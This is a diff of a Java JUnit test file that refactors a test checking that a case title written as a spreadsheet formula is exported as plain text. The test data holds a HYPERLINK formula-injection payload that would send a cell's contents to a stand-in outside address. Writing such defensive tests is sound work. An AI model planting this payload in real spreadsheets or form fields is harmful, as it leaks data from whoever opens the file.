@@ -13,7 +13,6 @@ import java.net.URLEncoder;
 import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.List;
-import java.util.Map;
 import java.util.TreeSet;
 import java.util.stream.Collectors;
 import org.junit.jupiter.api.Test;
@@ -101,9 +100,7 @@ class FilterTests {
     void aTitleThatIsAFormulaLeavesAsText() {
         String formula = "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"click\")";
         TestClient supervisor = TestClient.admin(port).makePerson("CITY_SUPERVISOR", 1);
-        Answer filed = supervisor.post(
-                "/api/cases", Map.of("type", "vehicle-safety", "title", formula, "severity", 2, "organisationId", 1));
-        assertThat(filed.status()).as(filed.text()).isEqualTo(201);
+        supervisor.fileCase(formula, 2, 1);
 
         byte[] workbook = supervisor.download("/api/case-sheets?q=HYPERLINK");
 
